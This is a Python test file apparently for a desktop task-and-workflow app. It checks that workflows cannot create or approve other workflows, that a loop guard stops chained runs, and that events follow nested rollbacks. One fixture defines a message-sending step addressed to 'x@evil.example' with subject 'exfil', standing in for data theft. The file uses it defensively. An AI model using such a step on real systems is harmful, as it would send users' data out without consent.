"""Guards found in review: a workflow cannot make, trust or approve workflows; a chain of
workflows started by steps stops at the loop guard; store events follow nested rollbacks."""

from __future__ import annotations

from typing import Any

import pytest
from sqlalchemy import select

from desktop.core.errors import UserError
from desktop.services.container import Services
from desktop.services.task_checks import validated
from desktop.services.task_views import TaskDraft
from desktop.store.models import LocalEvent, Message, Task
from desktop.store.profile import Store

SEND = {
    "kind": "action",
    "action": "send_message",
    "args": {"to": ["x@evil.example"], "subject": "exfil", "body": "data"},
}


def manual(name: str, steps: list[dict[str, Any]], **extra: Any) -> dict[str, Any]:
    return {"name": name, "trigger": {"kind": "manual"}, "steps": steps, **extra}


@pytest.mark.parametrize(
    "action", ["add_workflow", "update_workflow", "enable_workflow", "approve_workflow_run"]
)
def test_a_workflow_cannot_manage_workflows(services: Services, action: str) -> None:
    inner = manual("evil", [SEND], trusted=True)
    step = {"kind": "action", "action": action, "args": {"definition": inner, "id": "x"}}
    with pytest.raises(UserError, match=r"steps\[0\]\.action: a workflow cannot"):
        services.workflows.add(manual("untrusted", [step]))


def test_making_a_trusted_workflow_from_a_step_sends_nothing(
    services: Services, store: Store
) -> None:
    """A definition stored before the rule (written straight to the table) is refused at run
    time: the message is never queued."""
    outer = services.workflows.add(manual("untrusted", [{"kind": "notify", "args": {"text": "x"}}]))
    inner = manual("evil", [SEND], trusted=True)
    with store.unit_of_work() as uow:
        from desktop.store.models import Workflow

        row = uow.s.get(Workflow, outer.value.id)
        assert row is not None
        row.steps = [{"kind": "action", "action": "add_workflow", "args": {"definition": inner}}]
        uow.commit()
    services.workflows.invalidate()
    run = services.workflows.run(outer.value.id)
    assert run.status == "failed"
    assert "a workflow cannot add workflow" in (run.error or str(run.trace))
    with store.read() as session:
        assert session.scalars(select(Message)).all() == []


def test_a_chain_of_workflows_stops_at_the_loop_guard(services: Services, store: Store) -> None:
    """W (on task.created) runs V; V adds a task. Without the depth passed on, every task
    made would start W again, forever."""
    v = services.workflows.add(
        manual("V", [{"kind": "action", "action": "add_task", "args": {"title": "again"}}])
    )
    services.workflows.add(
        {
            "name": "W",
            "trigger": {"kind": "event", "event": "task.created"},
            "steps": [
                {"kind": "action", "action": "run_workflow", "args": {"id": str(v.value.id)}}
            ],
        }
    )
    services.tasks.add(TaskDraft("first"))
    # Dispatch every new event in order, as the runtime does, skipping the too-deep ones.
    dispatched = 0
    with store.read() as session:
        rows = session.scalars(select(LocalEvent).order_by(LocalEvent.id)).all()
    pending = list(rows)
    while pending and dispatched < 50:
        event = pending.pop(0)
        if event.depth >= 3:
            continue
        services.workflows.dispatch(
            event.name, dict(event.data or {}), f"{event.name}:{event.ref}", depth=event.depth
        )
        dispatched += 1
        with store.read() as session:
            newer = session.scalars(
                select(LocalEvent).where(LocalEvent.id > event.id).order_by(LocalEvent.id)
            ).all()
        known = {e.id for e in pending}
        pending.extend(e for e in newer if e.id not in known)
    with store.read() as session:
        titles = [t.title for t in session.scalars(select(Task)).all()]
    assert dispatched < 50
    assert titles.count("again") <= 2


def test_events_follow_a_nested_rollback(services: Services, store: Store) -> None:
    def task(session: Any, title: str) -> Task:
        values = validated(session, TaskDraft(title), services.ctx.now())
        values["sort_key"] = "a" + title
        return Task(**values)

    with store.unit_of_work() as uow, uow.shared():
        uow.s.add(task(uow.s, "T1"))
        uow.s.flush()
        try:
            with store.unit_of_work() as n1:
                with store.unit_of_work() as n2:
                    n2.s.add(task(n2.s, "T2"))
                    n2.commit()
                n1.s.add(task(n1.s, "T3"))
                n1.s.flush()
                raise RuntimeError("the step fails")
        except RuntimeError:
            pass
        uow.commit()
    with store.read() as session:
        tasks = sorted(t.title for t in session.scalars(select(Task)).all())
        events = sorted(
            str((e.data or {}).get("title")) for e in session.scalars(select(LocalEvent)).all()
        )
    assert tasks == ["T1"]
    assert events == ["T1"]
